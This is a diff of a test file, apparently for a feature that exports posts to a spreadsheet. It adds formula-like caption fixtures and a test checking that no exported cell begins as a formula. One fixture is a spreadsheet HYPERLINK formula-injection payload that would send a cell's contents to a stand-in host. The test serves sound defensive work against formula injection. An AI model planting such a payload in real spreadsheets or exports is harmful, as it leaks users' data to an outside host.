@@ -30,6 +30,10 @@ const CAPTIONS = [
 	'Two lines\nand a third,\n\nwith "quotes", commas; and a tab\tinside',
 	'0042',
 	'=SUM(A1:A3) is what we ate',
+	'=HYPERLINK("https://host.example?"&A1;"prize")&"!"',
+	'+1 for bread',
+	'-5 % on bread',
+	'- bread\n- cake',
 	'2031-04-01',
 	'  blanks around  ',
 	'Café Zoë – 30 % off 🍮',
@@ -230,6 +234,13 @@ test.each(TRIPS)(
 	},
 	300_000,
 );
+
+test('no cell of a post begins as a formula does in a sheet', async () => {
+	seedPosts();
+	const cells = (await rowsOfPosts()).flatMap(({ json }) => Object.values(json));
+	expect(cells.filter((cell) => /^(?:[=+]|-\w)/.test(String(cell)))).toEqual([]);
+	expect(cells).toContain(`'${CAPTIONS[3]}`);
+});
 
 test('editing a cell of each of three rows changes exactly these three posts', async () => {
 	seedPosts();
